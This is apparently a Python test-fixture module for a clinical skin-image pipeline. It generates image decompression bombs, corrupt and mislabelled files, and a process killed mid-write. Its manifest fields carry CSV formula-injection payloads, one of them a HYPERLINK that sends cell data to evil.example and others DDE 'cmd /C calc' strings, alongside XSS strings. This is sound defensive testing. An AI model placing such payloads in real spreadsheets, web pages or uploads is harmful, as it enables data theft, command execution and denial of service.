"""Generators of hostile and unlucky inputs shared by the themed test files (issue 9, issue 19):
bombs, a corpus of everything a clinic folder may hold, processes killed mid-write, unreadable files."""

from __future__ import annotations

import csv
import io
import struct
import zlib
from pathlib import Path

import numpy as np
import tifffile
from PIL import Image

FAST = {"backend": "serial", "register": False, "px_per_mm": 20}
DECLARED_SIDE = 100_000  # a 10-gigapixel header: 30 GB of RGB if anything tried to allocate it


def skin(seed: int, shape=(96, 128), tone=(0.80, 0.62, 0.52)) -> np.ndarray:
    """Uniform light skin with a little sensor noise, uint8 RGB."""
    rng = np.random.default_rng(seed)
    rgb = np.ones((*shape, 3)) * np.array(tone) + rng.normal(0, 0.01, (*shape, 3))
    return (np.clip(rgb, 0, 1) * 255).round().astype(np.uint8)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def bomb_png(width: int = DECLARED_SIDE, height: int = DECLARED_SIDE) -> bytes:
    """A valid PNG header declaring ``width`` x ``height`` RGB pixels, followed by 64 bytes of data."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def bomb_tiff(width: int = DECLARED_SIDE, height: int = DECLARED_SIDE) -> bytes:
    """A little-endian baseline TIFF whose single strip declares ``width`` x ``height`` grey pixels."""
    n_tags = 9
    data_offset = 8 + 2 + 12 * n_tags + 4
    entries = [  # (tag, type 3=SHORT 4=LONG, value)
        (256, 4, width),
        (257, 4, height),
        (258, 3, 8),
        (259, 3, 1),
        (262, 3, 1),
        (273, 4, data_offset),
        (277, 3, 1),
        (278, 4, height),
        (279, 4, (width * height) & 0xFFFFFFFF),
    ]
    ifd = struct.pack("<H", n_tags)
    for tag, kind, value in entries:
        packed = struct.pack("<HH", value, 0) if kind == 3 else struct.pack("<I", value)
        ifd += struct.pack("<HHI", tag, kind, 1) + packed
    return b"II*\x00" + struct.pack("<I", 8) + ifd + struct.pack("<I", 0) + b"\x00" * 16


def jpeg_bytes(rgb: np.ndarray, **save) -> bytes:
    buf = io.BytesIO()
    Image.fromarray(rgb).save(buf, format="JPEG", quality=95, **save)
    return buf.getvalue()


def png_bytes(image: Image.Image) -> bytes:
    buf = io.BytesIO()
    image.save(buf, format="PNG")
    return buf.getvalue()


# ---------------------------------------------------------------------------------------------
# The corpus: file name -> (bytes, manifest row overrides), expected outcome documented per case.

HOSTILE_SUBJECT = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
HOSTILE_REGION = "+cheek"
HOSTILE_TREATMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_TREATMENT = "-2+3+cmd|' /C calc'!A0"
SCRIPT_SUBJECT = "<script>alert('xss')</script>"
SCRIPT_TREATMENT = '"><img src=x onerror=alert(1)>'
UNICODE_NAME = "Zoë Ω 1_s0_cheek.jpg"
JAPANESE_NAME = "患者 テスト_s0_頬.png"
FORMULA_NAME = "=1+2 -x@y_s0.png"

#: Files that cannot be measured: expected stage, error type, and words the message must contain.
EXPECTED_ERRORS = {
    "empty.jpg": ("decode", "ImageDecodeError", ("empty", "0 bytes")),
    "notes.png": ("decode", "ImageDecodeError", ("not a recognised image",)),
    "truncated.png": ("decode", "ImageDecodeError", ("truncated",)),
    "truncated.jpg": ("decode", "ImageDecodeError", ("truncated",)),
    "report.pdf.jpg": ("decode", "ImageDecodeError", ("PDF", "not an image")),
    "letter.docx.png": ("decode", "ImageDecodeError", ("ZIP", "not an image")),
    "bomb.png": ("decode", "ImageTooLargeError", ("100000 x 100000", "exceeds the limit")),
    "bomb.tif": ("decode", "ImageTooLargeError", ("100000 x 100000", "exceeds the limit")),
}


def build_corpus(folder: Path) -> dict[str, dict[str, str]]:
    """Write every corpus file and return the manifest rows (file -> columns)."""
    folder.mkdir(parents=True, exist_ok=True)
    good = skin(0)
    rows: dict[str, dict[str, str]] = {}

    def add(name: str, data: bytes, **columns: str) -> None:
        (folder / name).write_bytes(data)
        rows[name] = {"subject": "P01", "session": "0", "region": "cheek", **columns}

    # Not images at all, or broken ones.
    add("empty.jpg", b"")
    add("notes.png", b"These are my notes, not a picture.\n" * 4)
    add("truncated.png", png_bytes(Image.fromarray(good))[:300])
    add("truncated.jpg", jpeg_bytes(good)[:400])
    add("report.pdf.jpg", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n")
    add("letter.docx.png", b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 40)  # a Word file renamed
    add("bomb.png", bomb_png())
    add("bomb.tif", bomb_tiff())
    # (The 1-pixel photo has its own test below: it is pinned as a known bug.)

    # Decodable variants of a good photo, all measured. 16-bit grey photos have no skin hue; the skin
    # mask then skips its colour rule (documented in texture.roi.skin_mask) and measures the whole frame.
    grey16 = np.linspace(20000, 40000, 96 * 128).reshape(96, 128).astype(np.uint16)
    add("grey16.png", png_bytes(Image.fromarray(grey16)))
    tif = io.BytesIO()
    tifffile.imwrite(tif, grey16)
    add("grey16.tif", tif.getvalue())
    # A 16-bit microscope z-stack: the first plane is the image (and the only page decoded).
    stack = io.BytesIO()
    tifffile.imwrite(stack, np.stack([grey16, grey16 // 2, grey16 // 3] * 10))
    add("stack16.tif", stack.getvalue())
    # Decodable variants of a good photo, all measured.
    add("cmyk.jpg", _cmyk_jpeg(skin(1)))
    rgba = np.dstack([skin(2), np.full(skin(2).shape[:2], 128, np.uint8)])
    add("rgba.png", png_bytes(Image.fromarray(rgba, mode="RGBA")))
    exif = Image.Exif()
    exif[0x0112] = 6  # stored sideways; upright it is 128 wide x 96 high
    exif.get_ifd(0x8769)[0x9003] = "0000:00:00 00:00:00"  # a camera whose clock was never set
    add("rotated.jpg", jpeg_bytes(skin(3, shape=(128, 96)), exif=exif.tobytes()), treatment=MINUS_TREATMENT)
    heic = io.BytesIO()
    Image.fromarray(skin(4)).save(heic, format="HEIF", quality=95)
    add("phone.heic", heic.getvalue())
    # Unicode and space-laden names.
    add(UNICODE_NAME, jpeg_bytes(skin(5)), subject="Zoë Ω", region="cheek")
    add(JAPANESE_NAME, png_bytes(Image.fromarray(skin(6))), subject="患者", region="頬")

    # Longitudinal cases.
    for name, seed, session, tone in (
        ("dup_s0.png", 10, "0", (0.80, 0.62, 0.52)),
        ("dup_s1_a.png", 11, "1", (0.76, 0.58, 0.48)),
        ("dup_s1_b.png", 12, "1", (0.72, 0.54, 0.44)),
    ):  # repeat captures of P03 at session 1: averaged in changes
        add(
            name,
            png_bytes(Image.fromarray(skin(seed, tone=tone))),
            subject="P03",
            session=session,
            region="cheek",
        )
    for name, seed, session in (("late_s2.png", 20, "2"), ("late_s3.png", 21, "3")):
        # P04 has no session 0: its earliest session is the baseline
        add(name, png_bytes(Image.fromarray(skin(seed))), subject="P04", session=session, region="cheek")
    for name, seed, session, scale in (("scale_s0.png", 30, "0", "20"), ("scale_s1.png", 31, "1", "40")):
        # P05 photographed at two different scales: comparable only with a warning
        add(
            name,
            png_bytes(Image.fromarray(skin(seed))),
            subject="P05",
            session=session,
            region="cheek",
            px_per_mm=scale,
        )

    # Hostile metadata: formulas (markup is tested on the report's own small run below).
    add(
        FORMULA_NAME,
        png_bytes(Image.fromarray(skin(40))),
        subject=HOSTILE_SUBJECT,
        region=HOSTILE_REGION,
        treatment=HOSTILE_TREATMENT,
    )
    return rows


def _cmyk_jpeg(rgb: np.ndarray) -> bytes:
    buf = io.BytesIO()
    Image.fromarray(rgb).convert("CMYK").save(buf, format="JPEG", quality=95)
    return buf.getvalue()


def write_manifest(folder: Path, rows: dict[str, dict[str, str]]) -> Path:
    columns = ["file", "subject", "session", "region", "modality", "stain", "px_per_mm", "treatment"]
    path = folder / "manifest.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=columns)
        writer.writeheader()
        for name, row in rows.items():
            writer.writerow({"file": name, **row})
    return path


def bomb_jpeg(width: int = 60_000, height: int = 60_000) -> bytes:
    """A baseline JPEG whose frame header (SOF0) declares ``width`` x ``height`` grey pixels."""
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    sos = b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\x00\x00\x3f\x00"
    return b"\xff\xd8" + sof + sos + b"\x00" * 32 + b"\xff\xd9"


def bomb_bmp(width: int = DECLARED_SIDE, height: int = DECLARED_SIDE) -> bytes:
    """A 24-bit BMP whose BITMAPINFOHEADER declares ``width`` x ``height`` pixels."""
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 14 + 40 + 16, 0, 0, 54) + info + b"\x00" * 16


def fast_config(tmp_path: Path) -> Path:
    config = tmp_path / "fast.yaml"
    config.write_text("register: false\npx_per_mm: 20\n", encoding="utf-8")
    return config


_WRITER = """
import sys, time
sys.path.insert(0, {root!r})
from pipelines.io.files import atomic_write
with atomic_write({target!r}, "w", encoding="utf-8") as fh:
    fh.write("half of a new table")
    fh.flush()
    print("writing", flush=True)
    time.sleep(60)
"""


def killed_mid_write(target: Path) -> None:
    """A real process, SIGKILLed while its temporary file is half written."""
    import signal
    import subprocess
    import sys

    root = str(Path(__file__).resolve().parents[2])
    code = _WRITER.format(root=root, target=str(target))
    proc = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
    try:
        assert proc.stdout.readline().strip() == "writing"
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=30)


def unreadable(monkeypatch, name: str) -> None:
    """Reading ``name`` fails with EIO (a bad sector, a cloud placeholder that cannot be fetched)."""
    import errno

    import pipelines.run

    def fail(path):
        raise OSError(errno.EIO, "Input/output error", str(Path(path).resolve()))

    real_read_bytes, real_sha = Path.read_bytes, pipelines.run.sha256_of_file
    monkeypatch.setattr(Path, "read_bytes", lambda p: fail(p) if p.name == name else real_read_bytes(p))
    monkeypatch.setattr(
        pipelines.run, "sha256_of_file", lambda p, **k: fail(p) if Path(p).name == name else real_sha(p, **k)
    )
